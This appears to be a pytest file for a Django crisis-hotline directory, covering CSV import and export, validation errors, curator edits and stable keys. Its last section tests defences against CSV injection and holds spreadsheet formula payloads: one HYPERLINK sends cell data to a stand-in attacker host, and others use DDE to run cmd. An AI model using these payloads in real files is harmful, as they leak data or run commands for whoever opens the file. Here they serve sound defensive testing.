"""import_hotlines / export_hotlines and the CSV format behind them."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command

from hotlines.csvio import (
    EXPORT_HEADER,
    HEADER,
    ImportFailed,
    export_text,
    import_csv,
    parse_csv,
)
from hotlines.keys import derived_key
from hotlines.models import ContactMethod, Service
from tests.factory import make_service

pytestmark = pytest.mark.django_db

SEED = Path(settings.BASE_DIR) / "hotlines" / "data" / "hotlines_seed.csv"
HEADER_LINE = ",".join(HEADER)
GOOD = (
    "DE,,Telefonseelsorge,crisis_line,0800 111 0 111,,https://www.telefonseelsorge.de,24/7,"
    "de,suicide;emotional_support,https://example.org/a | https://example.org/b,"
    "confidence: high. Two sources agree."
)


def csv_text(*rows: str) -> str:
    return "\r\n".join([HEADER_LINE, *rows]) + "\r\n"


def seed_rows() -> list[list[str]]:
    with SEED.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def version_2() -> str:
    """The starter data as version 2 shipped it: version 3 keeps its 147 rows unchanged,
    first, and adds the rest after them (hotlines/data/README.md)."""
    lines = SEED.read_text(encoding="utf-8").splitlines(keepends=True)
    return "".join(lines[:148])


def exported_rows() -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export_text(), newline="")))


def test_the_starter_data_imports_whole() -> None:
    result = import_csv(SEED.read_bytes())

    assert result.created == 435
    assert Service.objects.count() == 435
    assert Service.objects.values("country").distinct().count() == 131
    assert not Service.objects.filter(needs_review=False).exists()
    assert not Service.objects.filter(last_verified_at__isnull=False).exists()
    # Confidence comes from the start of each note, kept whole.
    expected = {"high": 0, "medium": 0, "low": 0}
    for row in seed_rows()[1:]:
        expected[re.match(r"confidence:\s*(\w+)", row[11])[1]] += 1
    for level, count in expected.items():
        assert Service.objects.filter(confidence=level).count() == count
    assert expected["low"] > 0


def test_imported_rows_keep_sources_instructions_and_hours() -> None:
    import_csv(SEED.read_bytes())

    lebanon = Service.objects.get(country="LB", name="Internal Security Forces (police)")
    assert len(lebanon.source_urls) == 3
    assert lebanon.source_urls[0].startswith("https://www.newlebanon.info/")
    assert lebanon.note.startswith("confidence: high. RESOLVED: 112.")

    veterans = Service.objects.get(country="US", name="Veterans Crisis Line")
    phone = veterans.contact_methods.get(kind=ContactMethod.Kind.PHONE)
    assert (phone.value, phone.instructions) == ("988", "then press 1")
    assert phone.tel_href == "tel:988"
    assert veterans.contact_methods.filter(kind=ContactMethod.Kind.CHAT).exists()

    chile = Service.objects.get(country="CL", name="Línea de Prevención del Suicidio (Minsal)")
    star = chile.contact_methods.get(kind=ContactMethod.Kind.PHONE)
    assert star.value == "*4141"  # as written
    assert star.tel_href == "tel:*4141"

    amico = Service.objects.get(country="IT", name="Telefono Amico Italia")
    assert amico.contact_methods.get(kind="phone").hours_spec == "daily 10:00-24:00"

    livslinien = Service.objects.get(country="DK", name="Livslinien")
    method = livslinien.contact_methods.get(kind="phone")
    assert method.hours_note == "11:00-04:00 (as of 2021)"
    assert method.open_state() is None  # free text: unknown, never "closed"


def test_importing_again_updates_instead_of_duplicating(carol) -> None:
    import_csv(SEED.read_bytes())
    samaritans = Service.objects.get(country="GB", name="Samaritans")
    samaritans.mark_verified(carol)

    again = import_csv(SEED.read_bytes())

    assert (again.created, again.updated, again.unchanged) == (0, 0, 435)
    assert Service.objects.count() == 435
    samaritans.refresh_from_db()
    assert samaritans.is_verified  # an identical row leaves the verification alone

    changed = SEED.read_text(encoding="utf-8").replace(
        "GB,,Samaritans,crisis_line,116 123,", "GB,,Samaritans,crisis_line,116 124,"
    )
    result = import_csv(changed)

    assert (result.created, result.updated) == (0, 1)
    assert Service.objects.count() == 435
    samaritans.refresh_from_db()
    assert samaritans.contact_methods.get(kind="phone").value == "116 124"
    assert samaritans.needs_review
    assert not samaritans.is_verified


def test_export_round_trips_the_starter_data_byte_for_byte() -> None:
    import_csv(SEED.read_bytes())

    exported = export_text()

    rows = list(csv.reader(io.StringIO(exported, newline="")))
    seed = seed_rows()
    assert tuple(rows[0]) == EXPORT_HEADER
    # The starter data's columns, between the key and the number from abroad (empty).
    columns = [EXPORT_HEADER.index(column) for column in HEADER]
    assert all(row[0] and row[-3:] == ["", "", ""] for row in rows[1:])
    assert sorted([row[i] for i in columns] for row in rows[1:]) == sorted(seed[1:])
    # Put the exported rows back in the seed's order: the bytes are the file's.
    by_key = {tuple(row[1:5]): [row[i] for i in columns] for row in rows[1:]}
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\n")  # the file's line ends (the export: CRLF)
    writer.writerow(HEADER)
    writer.writerows(by_key[tuple(row[:4])] for row in seed[1:])
    assert out.getvalue().encode("utf-8") == SEED.read_bytes()
    # The keys are those the rows derive, so any installation agrees on them.
    assert {row[0] for row in rows[1:]} == {derived_key(*row[:4]) for row in seed[1:]}
    # And the export imports as it is: nothing changes.
    assert import_csv(exported).unchanged == 435


def test_commands_import_and_export(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    call_command("import_hotlines", str(SEED))
    assert "435 new" in capsys.readouterr().out

    call_command("export_hotlines")
    out = capsys.readouterr().out
    assert out.startswith(",".join(EXPORT_HEADER) + "\r\n")
    assert len(list(csv.reader(io.StringIO(out, newline="")))) == 436

    exported = tmp_path / "export.csv"
    exported.write_text(out, encoding="utf-8", newline="")
    call_command("import_hotlines", str(exported))
    assert "435 unchanged" in capsys.readouterr().out


def test_the_command_reports_problems_and_saves_nothing(tmp_path: Path, capsys) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text(csv_text(GOOD, GOOD.replace("DE,,", "XX,,", 1)), encoding="utf-8")

    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("import_hotlines", str(bad))

    assert "line 3: country_code" in capsys.readouterr().err
    assert Service.objects.count() == 0
    with pytest.raises(CommandError, match="Cannot read"):
        call_command("import_hotlines", str(tmp_path / "missing.csv"))


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (GOOD.replace("DE,,", "XX,,", 1), "line 3: country_code: “XX” is not an ISO 3166-1"),
        (GOOD.replace("DE,,", "DE,DE-XX,", 1), "line 3: region_code: “DE-XX” is not an ISO 3166-2"),
        (GOOD.replace("DE,,", "DE,GB-ENG,", 1), "line 3: region_code: “GB-ENG” is not in DE"),
        (GOOD.replace(",crisis_line,", ",hotline,", 1), "line 3: kind: “hotline” is not one of"),
        (GOOD.replace("0800 111 0 111", "call us"), "line 3: phone: “call us” is not a phone"),
        (GOOD.replace("0800 111 0 111", "*41a1"), "line 3: phone: “*41a1” is not a phone"),
        (GOOD.replace("0800 111 0 111", "*"), "line 3: phone: A phone number has between 2"),
        (GOOD.replace("0800 111 0 111", " * "), "line 3: phone: A phone number has between 2"),
        (GOOD.replace("0800 111 0 111", "*#"), "line 3: phone: A phone number has between 2"),
        (GOOD.replace("0800 111 0 111", "*4141 x"), "line 3: phone: “*4141 x” is not a phone"),
        (GOOD.replace(",,https://www.tele", ",*4141,https://www.tele"), "line 3: sms: “*4141”"),
        (GOOD.replace(",,https://www.tele", ",sms me,https://www.tele"), "line 3: sms: “sms me”"),
        (GOOD.replace("https://www.telefonseelsorge.de", "www.telefon seelsorge"), "line 3: url:"),
        (GOOD.replace(",24/7,", ",Mon-Fri 25:00-17:00,"), "line 3: hours: “25:00-17:00”"),
        (GOOD.replace(",24/7,", ",Mon-Fry 09:00-17:00,"), "line 3: hours: “Mon-Fry”"),
        (GOOD.replace(",de,", ",de;xx,"), "line 3: languages: Not ISO 639-1 language codes"),
        (GOOD.replace(",suicide;", ",Suicide Help;"), "line 3: topics: Suicide Help"),
        (GOOD.replace("https://example.org/b", "example dot org"), "line 3: source_url:"),
        (GOOD.replace("confidence: high", "pretty sure"), "line 3: note: must start with"),
        (GOOD.replace("0800 111 0 111,,https://www.telefonseelsorge.de", ",,"), "line 3: no phone"),
        (GOOD + ",extra", "line 3: expected 12 fields, found 13"),
        (GOOD, "line 3: the same country, region, name and kind as line 2"),
    ],
)
def test_a_bad_row_is_reported_by_line_and_nothing_is_saved(row: str, expected: str) -> None:
    import_csv(csv_text(GOOD.replace("Telefonseelsorge", "Existing")))
    before = export_text()

    with pytest.raises(ImportFailed) as failure:
        import_csv(csv_text(GOOD, row))

    assert expected in str(failure.value)
    assert export_text() == before  # neither the good row nor anything else was saved


def test_every_problem_is_reported_with_its_own_line() -> None:
    text = csv_text(
        GOOD.replace("DE,,", "XX,,", 1),
        GOOD.replace("Telefonseelsorge", '"Line\nwith a break"'),
        GOOD.replace("Telefonseelsorge", "Other").replace(",24/7,", ",Mon 09:00-09:00,"),
    )
    with pytest.raises(ImportFailed) as failure:
        parse_csv(text)

    lines = [error.line for error in failure.value.errors]
    # The quoted name spans lines 3-4, so the last row starts on line 5.
    assert lines == [2, 5]
    assert Service.objects.count() == 0


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("country,region,name\r\n" + GOOD, "line 1: the header must be exactly"),
        (HEADER_LINE + ",from_abroad\r\n" + GOOD + ",", "line 1: the header must be exactly"),
        (HEADER_LINE + ",comment\r\n" + GOOD + ",", "line 1: the header must be exactly"),
        ("", "line 1: the file is empty"),
        (csv_text(GOOD).encode("utf-8") + b"\xff\xfe", "the file is not UTF-8"),
    ],
)
def test_a_malformed_file_is_refused(text: str | bytes, expected: str) -> None:
    with pytest.raises(ImportFailed, match=expected):
        import_csv(text)
    assert Service.objects.count() == 0


def test_free_text_hours_are_kept_and_structured_hours_round_trip() -> None:
    rows = [
        GOOD.replace(",24/7,", ",Mon-Fri 09:00-17:00; Sat 10:00-14:00,"),
        GOOD.replace("Telefonseelsorge", "Nachtlinie").replace(",24/7,", ",Fri-Sun 22:00-02:00,"),
        GOOD.replace("Telefonseelsorge", "Maybe").replace(",24/7,", ",limited hours (see site),"),
    ]
    import_csv(csv_text(*rows))

    hours = {row["name"]: row["hours"] for row in exported_rows()}
    assert hours == {
        "Telefonseelsorge": "Mon-Fri 09:00-17:00; Sat 10:00-14:00",
        "Nachtlinie": "Fri-Sun 22:00-02:00",
        "Maybe": "limited hours (see site)",
    }
    assert import_csv(export_text()).unchanged == 3


def test_a_byte_order_mark_is_accepted() -> None:
    assert import_csv(b"\xef\xbb\xbf" + csv_text(GOOD).encode("utf-8")).created == 1


def test_seed_demo_loads_the_starter_data_into_an_empty_directory_only(carol) -> None:
    from crisisplan.management.commands.seed_demo import Command

    command = Command(stdout=io.StringIO())
    command.load_directory()
    assert Service.objects.count() == 435
    police = Service.objects.get(country="LB", name="Internal Security Forces (police)")
    police.name = "ISF (police)"
    police.save()
    Service.objects.get(country="GB", name="Samaritans").delete()

    command.load_directory()  # the next `make run`

    assert Service.objects.count() == 434  # nothing added back, nothing undone
    police.refresh_from_db()
    assert police.name == "ISF (police)"
    assert "434 entries already there, left as they are" in command.stdout._out.getvalue()


def test_an_entry_with_a_star_number_survives_the_export_round_trip() -> None:
    star = GOOD.replace("DE,,Telefonseelsorge", "CL,,Línea 4141").replace("0800 111 0 111", "*4141")
    hash_ = GOOD.replace("Telefonseelsorge", "Hash line").replace("0800 111 0 111", "*123#")
    import_csv(csv_text(star, hash_))

    rows = {row["name"]: row for row in exported_rows()}

    assert rows["Línea 4141"]["phone"] == "*4141"
    assert rows["Hash line"]["phone"] == "*123#"
    method = Service.objects.get(name="Hash line").contact_methods.get(kind="phone")
    assert method.tel_href == "tel:*123%23"
    assert method.display_value == "*123#"
    assert import_csv(export_text()).unchanged == 2


# --- stable keys and curators' changes ----------------------------------------------


def test_a_service_a_curator_renamed_is_not_imported_again_beside_it() -> None:
    import_csv(SEED.read_bytes())
    police = Service.objects.get(country="LB", name="Internal Security Forces (police)")
    key = police.key
    police.name = "ISF (police)"
    police.save()

    result = import_csv(SEED.read_bytes())

    assert Service.objects.count() == 435  # no second police entry
    assert Service.objects.filter(country="LB", kind="emergency").count() == 4
    police.refresh_from_db()
    assert (police.name, police.key) == ("ISF (police)", key)
    assert (result.created, result.updated, result.unchanged) == (0, 0, 434)
    [skipped] = result.skipped
    assert skipped.key == key
    assert "“ISF (police)”" in str(skipped)
    assert "a curator changed name since the last import" in str(skipped)
    line = next(
        i for i, r in enumerate(seed_rows(), 1) if r[2] == "Internal Security Forces (police)"
    )
    assert str(skipped).startswith(f"line {line}: ")
    assert "1 skipped (changed by a curator since the last import)" in str(result)


def test_a_curators_change_is_kept_unless_overwrite_edited_is_asked_for(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    import_csv(SEED.read_bytes())
    samaritans = Service.objects.get(country="GB", name="Samaritans")
    phone = samaritans.contact_methods.get(kind="phone")
    phone.value = "116 123 0"  # a curator's correction
    phone.save()
    # The file changes the row too, differently.
    changed = tmp_path / "changed.csv"
    changed.write_text(
        SEED.read_text(encoding="utf-8").replace(
            "GB,,Samaritans,crisis_line,116 123,", "GB,,Samaritans,crisis_line,116 124,"
        ),
        encoding="utf-8",
    )

    call_command("import_hotlines", str(changed))

    out = capsys.readouterr().out
    assert "1 skipped" in out
    assert "“Samaritans”" in out and "a curator changed phone" in out
    assert "--overwrite-edited" in out
    assert samaritans.contact_methods.get(kind="phone").value == "116 123 0"

    call_command("import_hotlines", str(changed), "--overwrite-edited")

    assert "1 updated" in capsys.readouterr().out
    assert samaritans.contact_methods.get(kind="phone").value == "116 124"
    # Now as imported: the file's next change applies without asking.
    call_command("import_hotlines", str(SEED))
    assert "1 updated" in capsys.readouterr().out
    assert samaritans.contact_methods.get(kind="phone").value == "116 123"


def test_verifying_or_untouched_fields_are_no_curators_change(carol) -> None:
    import_csv(SEED.read_bytes())
    samaritans = Service.objects.get(country="GB", name="Samaritans")
    samaritans.mark_verified(carol)
    samaritans.description = "Volunteers, 24 hours a day."
    samaritans.save()
    changed = SEED.read_text(encoding="utf-8").replace(
        "GB,,Samaritans,crisis_line,116 123,", "GB,,Samaritans,crisis_line,116 124,"
    )

    result = import_csv(changed)

    assert (result.updated, result.skipped) == (1, [])
    samaritans.refresh_from_db()
    assert samaritans.description == "Volunteers, 24 hours a day."
    assert samaritans.needs_review  # the new number needs a curator's eye


def test_an_entry_made_by_hand_is_not_overwritten_by_a_row_of_the_same_name() -> None:
    hand = Service.objects.create(
        name="Telefonseelsorge", country="DE", kind="crisis_line", note="confidence: high"
    )
    ContactMethod.objects.create(service=hand, kind="phone", value="0800 111 0 222")

    result = import_csv(csv_text(GOOD))

    assert Service.objects.count() == 1
    [skipped] = result.skipped
    assert "made or changed by a curator and never imported" in str(skipped)
    assert hand.contact_methods.get().value == "0800 111 0 222"


def test_a_row_with_a_key_renames_its_entry() -> None:
    import_csv(csv_text(GOOD))
    [row] = exported_rows()
    row["name"] = "TelefonSeelsorge Deutschland"
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=EXPORT_HEADER)
    writer.writeheader()
    writer.writerow(row)

    result = import_csv(out.getvalue())

    assert (result.created, result.updated) == (0, 1)
    service = Service.objects.get()
    assert (service.name, service.key) == ("TelefonSeelsorge Deutschland", row["key"])
    # The same file again, now without keys: the entry of that name, still one.
    assert import_csv(csv_text(GOOD.replace("Telefonseelsorge", service.name))).unchanged == 1
    assert Service.objects.count() == 1


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (lambda rows: rows.append(dict(rows[0], name="Third")), "line 4: the same key as line 2"),
        (lambda rows: rows[0].update(key="Not a key!"), "line 2: key: “Not a key!” is not a key"),
        (
            lambda rows: rows[1].update(name=rows[0]["name"]),
            "line 3: the same country, region, name and kind as line 2",
        ),
        (
            lambda rows: (rows[0].update(name="Other"), rows.pop()),
            "line 2: key de-telefonseelsorge-",  # would take the place of the entry "Other"
        ),
    ],
)
def test_keys_that_clash_are_refused_and_nothing_is_saved(change, expected: str) -> None:
    import_csv(csv_text(GOOD, GOOD.replace("Telefonseelsorge", "Other")))
    before = export_text()
    rows = exported_rows()
    change(rows)
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=EXPORT_HEADER)
    writer.writeheader()
    writer.writerows(rows)

    with pytest.raises(ImportFailed) as failure:
        import_csv(out.getvalue())

    assert expected in str(failure.value)
    assert export_text() == before


def test_version_3_over_version_2_updates_in_place(carol) -> None:
    first = import_csv(version_2())
    assert (first.created, Service.objects.values("country").distinct().count()) == (147, 40)
    # Curators at work on version 2: a rename, a verification, a correction.
    police = Service.objects.get(country="LB", name="Internal Security Forces (police)")
    police.name = "ISF (police)"
    police.save()
    samaritans = Service.objects.get(country="GB", name="Samaritans")
    samaritans.mark_verified(carol)
    livslinien = Service.objects.get(country="DK", name="Livslinien")
    livslinien.contact_methods.filter(kind="phone").update(hours_note="11:00-05:00")
    ids = set(Service.objects.values_list("pk", flat=True))

    result = import_csv(SEED.read_bytes())

    assert (result.created, result.updated, result.unchanged) == (288, 0, 145)
    assert len(result.skipped) == 2
    assert Service.objects.count() == 435
    assert Service.objects.values("country").distinct().count() == 131
    assert ids <= set(Service.objects.values_list("pk", flat=True))  # the same entries
    police.refresh_from_db()
    assert police.name == "ISF (police)"
    assert Service.objects.get(pk=samaritans.pk).is_verified
    assert livslinien.contact_methods.get(kind="phone").hours_note == "11:00-05:00"
    assert import_csv(SEED.read_bytes()).created == 0


def test_a_number_from_abroad_comes_with_its_source_and_round_trips() -> None:
    header = HEADER_LINE + ",from_abroad,from_abroad_source,from_abroad_verified_on"
    abroad = GOOD + ",+49 69 1234 5678,https://example.org/official,2026-11-30"
    import_csv(f"{header}\r\n{abroad}\r\n")

    service = Service.objects.get()
    assert service.from_abroad == "+49 69 1234 5678"
    assert service.from_abroad_source == "https://example.org/official"
    assert str(service.from_abroad_verified_on) == "2026-11-30"
    assert service.from_abroad_tel_href == "tel:+496912345678"
    [row] = exported_rows()
    assert (row["from_abroad"], row["from_abroad_verified_on"]) == (
        "+49 69 1234 5678",
        "2026-11-30",
    )
    # A file without the columns (the starter data) leaves the number alone.
    assert import_csv(csv_text(GOOD)).unchanged == 1
    service.refresh_from_db()
    assert service.from_abroad == "+49 69 1234 5678"


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        (",112,https://example.org/official,", "from_abroad: A number from abroad starts with +"),
        (",+49 69 1234 5678,,", "from_abroad_source: a number from abroad needs its official"),
        (",+49 69 1234 5678,not a site,", "from_abroad_source: “not a site” is not a web"),
        (
            ",+49 69 1234 5678,https://example.org/a,30.11.2026",
            "from_abroad_verified_on: “30.11.2026” is not a",
        ),
        (",,,2026-11-30", "from_abroad_verified_on: there is no number from abroad"),
    ],
)
def test_a_bad_number_from_abroad_is_refused(cells: str, expected: str) -> None:
    header = HEADER_LINE + ",from_abroad,from_abroad_source,from_abroad_verified_on"
    with pytest.raises(ImportFailed) as failure:
        import_csv(f"{header}\r\n{GOOD}{cells}\r\n")
    assert f"line 2: {expected}" in str(failure.value)
    assert Service.objects.count() == 0


# --- spreadsheet formulas (CSV injection) --------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Call now")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
]


def test_the_export_neutralises_formulas_and_keeps_numbers_exact() -> None:
    for number, formula in enumerate(FORMULAS):
        # Typed in the admin by a curator whose account was taken over, say.
        make_service(formula, country="GB", phone=f"+44 20 7946 000{number}")
    rows = exported_rows()
    assert sorted(row["name"] for row in rows) == sorted(f"'{f}" for f in FORMULAS)
    assert sorted(row["phone"] for row in rows) == [f"+44 20 7946 000{n}" for n in range(4)]
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith(("+", "-")) or re.fullmatch(r"[+\-][0-9 ]+", cell)


def test_numbers_and_guarded_cells_round_trip_exactly() -> None:
    make_service("Samaritans", country="GB", phone="+44 20 7946 0000")
    instructions = make_service("Line with a menu", country="GB", phone="+44 20 7946 0001")
    instructions.contact_methods.filter(kind="phone").update(instructions="then press 1")
    first = export_text()
    assert "+44 20 7946 0000," in first
    assert "'+44 20 7946 0001 (then press 1)" in first  # letters after a "+": guarded
    Service.objects.all().delete()
    assert import_csv(first).created == 2
    assert export_text() == first
    phones = set(ContactMethod.objects.filter(kind="phone").values_list("value", "instructions"))
    assert phones == {("+44 20 7946 0000", ""), ("+44 20 7946 0001", "then press 1")}


def test_the_import_refuses_formulas_in_text_columns_by_line() -> None:
    rows = []
    for formula in FORMULAS:
        cells = next(csv.reader([GOOD]))
        cells[2] = formula  # name
        rows.append(cells)
    cells = next(csv.reader([GOOD]))
    cells[7] = "\t=1+1"  # hours, led by a tab
    rows.append(cells)
    cells = next(csv.reader([GOOD]))
    cells[11] = "confidence: high. Fine"
    cells[8] = "@de"  # languages
    rows.append(cells)
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(HEADER)
    for number, cells in enumerate(rows):
        cells[4] = f"0800 111 0 11{number}"
        writer.writerow(cells)
    with pytest.raises(ImportFailed) as failed:
        import_csv(out.getvalue())
    text = str(failed.value)
    for line, lead in ((2, "“=”"), (3, "“@”"), (4, "“-”"), (5, "“+”")):
        assert f"line {line}: name: starts with {lead}, which a spreadsheet would run" in text
    assert "line 6: hours: starts with a tab" in text
    assert "line 7: languages: starts with “@”" in text
    assert not Service.objects.exists()


def test_the_import_refuses_control_characters() -> None:
    cells = next(csv.reader([GOOD]))
    cells[2] = "Telefon\u202eseelsorge"
    out = io.StringIO(newline="")
    csv.writer(out).writerows([HEADER, cells])
    with pytest.raises(ImportFailed) as failed:
        import_csv(out.getvalue())
    assert "line 2: name: holds an invisible control character" in str(failed.value)
